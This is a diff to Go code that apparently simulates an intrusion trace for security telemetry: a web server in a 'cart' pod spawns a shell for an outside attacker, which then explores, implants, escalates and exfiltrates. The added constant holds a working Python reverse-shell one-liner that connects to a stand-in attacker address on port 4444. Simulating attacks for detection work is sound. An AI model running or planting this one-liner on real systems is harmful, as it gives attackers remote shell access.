@@ -13,25 +13,27 @@ import (
 // outside is where the attacker sits.
 var outside = ipv4(203, 0, 113, 66)
 
-// attack begins with a web server that starts a shell for somebody outside, and ends with data that goes out. All of
-// it is the shell's: whoever looks at one step finds the others in the same trace.
+// attack begins with a web server that starts a program for somebody outside, and ends with data that goes out. All
+// of it is that program's: whoever looks at one step finds the others in the same trace.
 func (s *story) attack(now uint64) uint64 {
 	victim := s.anyPod(s.services["cart"])
-	var c *connection
-	return s.run(victim.server, now, &program{
-		exe: "/usr/bin/bash", args: []string{"bash", "-i"}, stdin: &endpoint{address: outside, port: 4444},
-		before: func(p *process, now uint64) uint64 {
-			c = s.connect(p, nil, endpoint{address: outside, port: 4444}, &now)
-			return s.shortly(now)
-		},
-		does: func(shell *process, now uint64) uint64 {
-			for _, step := range []func(*process, uint64) uint64{s.lookAround, s.implant, s.escalate, s.exfiltrate} {
-				now = step(shell, now+s.typing())
-			}
-			c.sent, c.received = s.between(2000, 9000), s.between(200, 900)
-			return s.close(c, now)
-		},
+	to := endpoint{address: outside, port: 4444}
+	return s.command(victim.server, now, "/usr/bin/python3.12", []string{"python3", "-c", reverseShell}, 0, func(p *process, now uint64) uint64 {
+		c := s.connect(p, nil, to, &now)
+		now = s.run(p, now, &program{exe: "/usr/bin/bash", args: []string{"bash", "-i"}, stdin: &to, does: s.takeOver})
+		c.sent, c.received = s.between(2000, 9000), s.between(200, 900)
+		return s.close(c, now)
 	})
+}
+
+// reverseShell is what somebody had the server run.
+const reverseShell = `import os,socket,subprocess;s=socket.create_connection(("203.0.113.66",4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["bash","-i"])`
+
+func (s *story) takeOver(shell *process, now uint64) uint64 {
+	for _, step := range []func(*process, uint64) uint64{s.lookAround, s.implant, s.escalate, s.exfiltrate} {
+		now = step(shell, now+s.typing())
+	}
+	return now
 }
 
 // typing is what a person needs for a command; ns.
